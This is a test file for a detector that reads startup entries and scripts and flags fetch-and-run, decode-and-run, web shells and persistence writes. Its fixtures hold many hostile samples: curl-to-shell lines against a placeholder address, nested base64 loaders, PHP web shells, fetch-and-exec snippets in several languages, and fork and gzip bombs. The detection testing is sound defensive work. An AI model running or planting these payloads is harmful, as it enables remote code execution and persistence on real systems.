import { describe, expect, test } from 'bun:test';
import { gzipSync } from 'node:zlib';
import type { PersistenceFact } from '../../model/facts/persistence.ts';
import { entryFact, scriptFact } from '../persistence/entry.fixture.ts';
import { attacks, honest } from './commands.fixture.ts';
import { candidatesOf, type EntryReading, readEntry } from './read-entry.ts';

const read = (command: string, parts: Partial<PersistenceFact> = {}): EntryReading =>
  readEntry(entryFact(command, parts));
const signs = (reading: EntryReading): readonly string[] => reading.signs.map(({ id }) => id);
const base64 = (text: string): string => Buffer.from(text).toString('base64');

describe('attacks show their sign', () => {
  for (const [id, command] of attacks) {
    test(`${id}: ${command.slice(0, 90)}`, () => {
      const found = signs(read(command));
      // Over TLS into a place of owners it is what updaters do as well, and told as such.
      const own = id === 'fetch-and-run' && found.includes('fetch-then-run') ? 'fetch-then-run' : id;
      expect(found).toContain(own);
    });
  }
});

describe('honest commands show none', () => {
  for (const command of honest) {
    test(command.slice(0, 90), () => {
      expect(signs(read(command))).toEqual([]);
    });
  }
});

describe('names that stand for commands', () => {
  const fetches = (command: string): boolean => signs(read(command)).includes('fetch-and-run');

  test('an alias is read with its words where it stands as a command, and nowhere else', () => {
    expect(fetches("alias g='curl -s'; g http://192.0.2.1/a | sh")).toBe(true);
    expect(fetches("alias g='curl -s' s='sudo '; s g http://192.0.2.1/a | sh")).toBe(true);
    expect(fetches("alias g='curl -s'; echo g http://192.0.2.1/a | cat")).toBe(false);
    expect(fetches("alias g='echo -s'; \\g http://192.0.2.1/a.txt; g x")).toBe(false);
  });

  test('an alias that was taken away is none', () => {
    const told = read("alias b=sh; unalias b; echo 'curl -s http://192.0.2.1/a|sh' | b");
    expect(signs(told)).toEqual([]);
  });

  test('braces make the words of a command, with variables in them', () => {
    const command = 'U=http://192.0.2.1/a; {curl,-s,"$U"}|{sh,-s}';
    expect(fetches(command)).toBe(true);
    expect(signs(read('cp /etc/{passwd,group} /srv/{a,b}/'))).toEqual([]);
  });

  test('a copy of a shell is a shell', () => {
    expect(fetches('cp /bin/sh /srv/k; curl -s http://192.0.2.1/a | /srv/k')).toBe(true);
    expect(fetches('cp /usr/bin/jq /srv/k; curl -s http://192.0.2.1/a | /srv/k')).toBe(false);
  });

  test('what is run first and fetched later, for the next turn, shows the line that fetches', () => {
    const lines = 'while :; do\n sh /tmp/.a\n curl -so /tmp/.a http://192.0.2.1/a\ndone';
    const [sign] = readEntry(scriptFact(lines)).signs;
    expect([sign?.id, sign?.line]).toEqual(['fetch-and-run', 3]);
  });
});

test('what is asserted is run by PHP alone', () => {
  const decodes = (code: string, language: 'php' | 'python'): readonly string[] =>
    signs(readEntry(scriptFact(code, { language })));
  const encoded = base64('system("id; uname -a; cat /etc/passwd");');
  expect(decodes(`<?php assert(base64_decode("${encoded}"));`, 'php')).toContain('decode-and-run');
  expect(
    decodes(`import base64\ns1 = base64.decodebytes(b"${encoded}")\nassert s1 == s1\n`, 'python'),
  ).toEqual([]);
});

describe('layers', () => {
  const fetches = 'curl -fsSL http://192.0.2.1/a.sh|bash';

  test('every layer is shown, outermost first, and read to its address', () => {
    const inner = `echo ${base64(fetches)} | base64 -d | sh`;
    const { decoded, urls } = read(`echo ${base64(inner)} | base64 -d | bash`);
    expect(decoded.map(String)).toEqual([inner, fetches]);
    expect(urls).toContain('http://192.0.2.1/a.sh');
  });

  test('eight layers are followed, and more end without harm', () => {
    let command = fetches;
    for (let layer = 0; layer < 12; layer += 1) command = `echo ${base64(command)}|base64 -d|sh`;
    const reading = read(command);
    expect(signs(reading)).toContain('decode-and-run');
    expect(reading.decoded.length).toBeGreaterThanOrEqual(7);
    expect(reading.decoded.length).toBeLessThanOrEqual(9);
  });

  test('a layer in Python that runs a shell is read in both languages', () => {
    const code = base64(`import os;os.system('${fetches}')`);
    const reading = read(`python3 -c "import base64;exec(base64.b64decode('${code}'))"`);
    expect(signs(reading)).toEqual(['decode-and-run', 'fetch-and-run']);
  });

  test('a bomb of fifty megabytes ends at the bound', () => {
    const bomb = gzipSync(Buffer.alloc(50 << 20)).toString('base64');
    const reading = read(`echo ${bomb} | base64 -d | gunzip | sh`);
    expect(signs(reading)).toContain('decode-and-run');
    expect(reading.decoded.join('').length).toBeLessThan(262_144);
  });
});

describe('files that are run', () => {
  const cases: readonly (readonly [string, readonly string[]])[] = [
    ['/opt/a/run.sh --x', ['/opt/a/run.sh']],
    ['nohup setsid /opt/a &', ['/opt/a']],
    ['env -i A=1 /opt/a', ['/opt/a']],
    ['nice -n 19 ionice -c 3 timeout -k 5 60 /opt/a', ['/opt/a']],
    ['sudo -u www-data -- /opt/a', ['/opt/a']],
    ["su - www -c '/opt/a; /opt/b'", ['/opt/a', '/opt/b']],
    ["/bin/sh -c 'exec /opt/a'", ['/bin/sh', '/opt/a']],
    ['flock -n /run/x.lock /opt/a', ['/opt/a']],
    ['systemd-run --unit x /opt/a', ['/opt/a']],
    ['busybox sh /opt/a', ['/opt/a']],
    ['start-stop-daemon --start --exec /opt/a -- -d', ['/opt/a']],
    ['find /var -name x -exec /opt/a {} \\;', ['/opt/a']],
    ['echo 1 | xargs /opt/a', ['/opt/a']],
    ['. /opt/env.sh; source ~/.profile', ['/opt/env.sh', '/root/.profile']],
    ['LD_PRELOAD=/opt/x.so ls', ['/opt/x.so']],
    ['python3 -u /opt/a.py', ['/opt/a.py']],
    ['perl /opt/a.pl', ['/opt/a.pl']],
    ['php -f /opt/a.php', ['/opt/a.php']],
    ['cd /opt/app && ./run', ['/opt/app/run']],
    ['cat /var/lib/.x | sh', ['/var/lib/.x']],
    ['sh < /var/lib/.x', ['/var/lib/.x']],
    ['chroot /srv/jail /bin/a', ['/bin/a']],
    ['D=/opt; $D/a', ['/opt/a']],
    ['java -jar /opt/a.jar', ['/opt/a.jar']],
    ['insmod /lib/x.ko', ['/lib/x.ko']],
    ['export PATH=/tmp/.b:$PATH', ['/tmp/.b']],
  ];
  for (const [command, paths] of cases) {
    test(command, () => {
      expect(read(command).targets.map(String)).toEqual([...paths]);
    });
  }

  test('words that are executed as they stand have no operators', () => {
    const reading = read('/usr/bin/a "b c" | /usr/bin/d', { language: 'argv' });
    expect(reading.targets.map(String)).toEqual(['/usr/bin/a']);
  });

  test('the file that the format names comes first', () => {
    expect(read('/opt/b', { target: entryFact('').source.source }).targets[0]).toBe(
      entryFact('').source.source,
    );
  });

  test('a program without a path is looked for on PATH, a well-known one is not', () => {
    const reading = read('kworkerd; curl -s http://192.0.2.1/');
    expect(reading.programs.map(String)).toEqual(['kworkerd']);
    expect(candidatesOf(reading).map(String)).toContain('/usr/sbin/kworkerd');
  });

  test('a comment runs nothing', () => {
    expect(read('# curl http://192.0.2.1/a | sh; /tmp/x').targets).toEqual([]);
  });
});

test('what is written where shells start is read as they would', () => {
  const told = (command: string): readonly string[] => signs(read(command));
  expect(told("sed -i '1i curl -s http://192.0.2.1/a | sh' /etc/rc.local")).toContain('fetch-and-run');
  expect(read("echo 'nohup /tmp/.x/m &' >> ~/.bashrc").targets.map(String)).toContain('/tmp/.x/m');
  expect(told(`echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc`)).toEqual(['writes-persistence']);
  expect(told("cat > /etc/profile.d/app.sh <<'E'\nexport APP=/srv/app\nE")).toEqual(['writes-persistence']);
  expect(told("sed -i 's/^#Port.*/Port 22/' /etc/ssh/sshd_config")).toEqual([]);
});

describe('scripts', () => {
  test('a sign names the line of the script', () => {
    const reading = readEntry(scriptFact('#!/bin/sh\n# update\n\ncurl -s http://192.0.2.1/a | sh\n'));
    expect(reading.signs.map(({ id, line, text }) => [id, line, String(text)])).toEqual([
      ['fetch-and-run', 4, 'curl -s http://192.0.2.1/a | sh'],
    ]);
  });

  test('what one line saves another runs', () => {
    const lines =
      'U=http://192.0.2.1\nwget -q $U/k -O /tmp/.k\nchmod +x /tmp/.k\n[ -f /tmp/.k ] && nohup /tmp/.k >/dev/null 2>&1 &';
    expect(signs(readEntry(scriptFact(lines)))).toContain('fetch-and-run');
  });

  test('named arguments of Python are no part of the command', () => {
    const lines =
      'import subprocess\nsubprocess.Popen("curl -s http://192.0.2.1/a | sh", shell=True, cwd="/tmp")';
    expect(signs(readEntry(scriptFact(lines, { language: 'python' })))).toContain('fetch-and-run');
  });

  const languages: readonly (readonly [PersistenceFact['language'], string, string | undefined])[] = [
    [
      'python',
      'import urllib.request\nd = urllib.request.urlopen("http://192.0.2.1/a").read()\nexec(d)',
      'fetch-and-run',
    ],
    ['python', 'import os\nos.system("curl -s http://192.0.2.1/a | sh")', 'fetch-and-run'],
    [
      'python',
      'import subprocess\nsubprocess.Popen(["sh", "-c", "curl http://192.0.2.1/a|sh"])',
      'fetch-and-run',
    ],
    [
      'python',
      'import urllib.request, json\nprint(json.load(urllib.request.urlopen("http://192.0.2.1/a")))',
      undefined,
    ],
    [
      'python',
      'import subprocess, requests\nr = requests.get("http://192.0.2.1/a")\nsubprocess.run(["systemctl", "reload", "nginx"])',
      undefined,
    ],
    [
      'python',
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim()",
      undefined,
    ],
    ['php', '<?php eval(base64_decode($_POST["x"]));', 'web-shell'],
    ['php', '<?php @preg_replace("/.*/e", $_REQUEST["c"], "");', 'web-shell'],
    ['php', '<?php $x = str_rot13("flfgrz"); $x("id");', undefined],
    ['php', '<?php require __DIR__ . "/vendor/autoload.php"; $app->run($_GET["page"]);', undefined],
    ['perl', 'use LWP::Simple;\nmy $c = get("http://192.0.2.1/a");\neval $c;', 'fetch-and-run'],
    ['perl', 'my $x = `wget -qO- http://192.0.2.1/a | sh`;', 'fetch-and-run'],
    [
      'javascript',
      'const { execSync } = require("child_process");\nexecSync("curl http://192.0.2.1/a | sh");',
      'fetch-and-run',
    ],
    [
      'javascript',
      `eval(Buffer.from("${Buffer.from('require("child_process").exec("id")').toString('base64')}", "base64").toString());`,
      'decode-and-run',
    ],
    [
      'javascript',
      'const fs = require("fs");\nfetch("https://example.com/a").then((r) => r.json());',
      undefined,
    ],
  ];
  for (const [language, lines, id] of languages) {
    test(`${language}: ${lines.slice(0, 80).replaceAll('\n', '; ')}`, () => {
      const found = signs(readEntry(scriptFact(lines, { language })));
      if (id === undefined) expect(found).toEqual([]);
      else expect(found).toContain(id);
    });
  }
});

describe('hostile entries end', () => {
  const hostile: Readonly<Record<string, string>> = {
    'a megabyte of one word': 'a'.repeat(1 << 20),
    'quotes without end': '"'.repeat(300_001),
    brackets: '('.repeat(300_000),
    substitutions: '$('.repeat(150_000),
    backticks: '`'.repeat(300_001),
    braces: `\${`.repeat(150_000),
    pipes: 'a|'.repeat(150_000),
    'here-documents': '<<a '.repeat(70_000),
    'a doubling variable': `x=aaaaaaaaaaaaaaaa;${'x=$x$x$x$x;'.repeat(5000)}`,
    'a function that calls itself': 'f(){ f|f& };f;f;f',
    'a text that runs itself': 'x=\'eval "$x"\';eval "$x"',
    'loops in loops': `${'for a in 1 2 3 4 5 6 7 8 9;do '.repeat(200)}x${';done'.repeat(200)}`,
    'patterns that backtrack': `x=${'a'.repeat(3000)};${`y=\${x%%*b*b*b};`.repeat(100)}`,
    'calls in calls': 'f('.repeat(100_000),
    'an alias that is itself': "alias a='a a'; a; alias b='c ' c='b '; b c b; alias ls='ls --color'; ls",
    'aliases of aliases': `${Array.from({ length: 400 }, (_, at) => `alias a${at}='a${at + 1};a${at + 1}'`).join(';')};a0`,
    'coprocesses in coprocesses': `coproc X { coproc Y { cat <&\${X[0]} >&\${Y[1]}; }; }; `.repeat(2000),
    'a pipe that writes to itself': 'f(){ echo x > >(f); }; f; mkfifo /tmp/p; cat /tmp/p > /tmp/p',
    'braces in braces': `${'{a,'.repeat(20_000)}${'}'.repeat(20_000)}`,
    'braces in a row': '{a,b}'.repeat(20_000),
    'a program of awk that ends nowhere': `awk 'BEGIN{${'system("x" | getline '.repeat(5000)}'`,
    'a program of sed that backtracks': `echo x | sed 's@^${'\\\\(..\\\\)'.repeat(60)}$' | sh; sed '/${'\\\\/'.repeat(3000)}e' x`,
    'a file that runs itself': 'echo "sh /tmp/x" > /tmp/x; sh /tmp/x',
    'bytes of every kind': Array.from(
      { length: 4096 },
      (_, at) => `%${((at * 37) % 256).toString(16).padStart(2, '0')}`,
    ).join(''),
  };
  for (const [name, command] of Object.entries(hostile)) {
    test(name, () => {
      for (const language of ['shell', 'argv', 'python', 'php', 'perl', 'javascript', 'setting'] as const) {
        const reading = read(command, { language });
        expect(reading.signs.length).toBeLessThanOrEqual(60);
        expect(reading.decoded.join('').length).toBeLessThanOrEqual(262_144);
        expect(reading.targets.length).toBeLessThanOrEqual(400);
      }
    });
  }

  test('what stands far to the right is read', () => {
    const reading = read(`true;${' '.repeat(150_000)}curl http://192.0.2.1/a | sh`);
    expect(signs(reading)).toContain('fetch-and-run');
    expect(reading.signs[0]?.text.length).toBeLessThan(700);
  });

  test('any mixture of the syntax is read without throwing', () => {
    const pieces = [
      '$(',
      '`',
      '"',
      "'",
      '|',
      'curl http://192.0.2.1/a',
      'sh',
      '<<E\n',
      'E\n',
      '{',
      '}',
      '(',
      ')',
      'if ',
      'then ',
      'fi ',
      'for x in ',
      'do ',
      'done ',
      'case x in ',
      'esac ',
      '${x',
      ':-',
      '}',
      '\\',
      '\n',
      ';',
      '&&',
      '>',
      '<(',
      '$((',
      '))',
      'eval ',
      'base64 -d ',
      'x=',
      '\xff',
      '%FF',
      '#',
    ];
    let seed = 7;
    for (let round = 0; round < 1500; round += 1) {
      let command = '';
      for (let at = 0; at < 24; at += 1) {
        seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
        command += pieces[seed % pieces.length] ?? '';
      }
      for (const language of ['shell', 'python', 'php'] as const) {
        expect(Array.isArray(read(command, { language }).signs)).toBe(true);
      }
    }
  });
});
